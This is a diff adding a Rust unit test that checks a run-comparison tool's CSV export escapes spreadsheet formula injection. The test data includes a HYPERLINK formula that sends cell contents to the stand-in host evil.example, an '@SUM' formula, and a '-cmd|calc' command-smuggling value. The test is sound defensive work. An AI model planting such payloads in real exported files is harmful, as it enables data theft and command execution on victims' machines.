@@ -193,6 +193,26 @@ fn the_papers_figures_are_beside_ours_where_the_setting_is_its_own() {
     assert!(comparison.to_csv().contains(",3.24,0.12,3.3"), "{}", comparison.to_csv());
 }
 
+/// The words of a run come from its folder, which anyone may have made; differences are negative numbers and stay numbers.
+#[test]
+fn csv_guards_spreadsheet_formulas() {
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A2,\"cat\")";
+    let mut runs = two_methods();
+    for run in &mut runs {
+        run.settings.insert("dataset.source".to_owned(), formula.to_owned());
+        run.settings.insert("labels.keep".to_owned(), "@SUM(A1)".to_owned());
+        if run.settings["method.mixup.pairing"] == "calibratemix" {
+            run.settings.insert("method.base".to_owned(), "-cmd|calc".to_owned());
+        }
+    }
+    let csv = Comparison::of(runs, None).unwrap().to_csv();
+    let start = "\n\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A2,\"\"cat\"\")\",'@SUM(A1),test,";
+    assert_eq!(csv.matches(start).count(), 4, "{csv}");
+    assert!(csv.contains(&format!("{start}'-cmd|calc + CalibrateMix,ECE,")), "{csv}");
+    let csv = Comparison::of(two_methods(), None).unwrap().to_csv();
+    assert!(csv.contains(",FixMatch,4,-2.39"), "{csv}");
+}
+
 /// With names from outside that mean something to LaTeX or to a terminal.
 #[test]
 fn latex_compiles() {
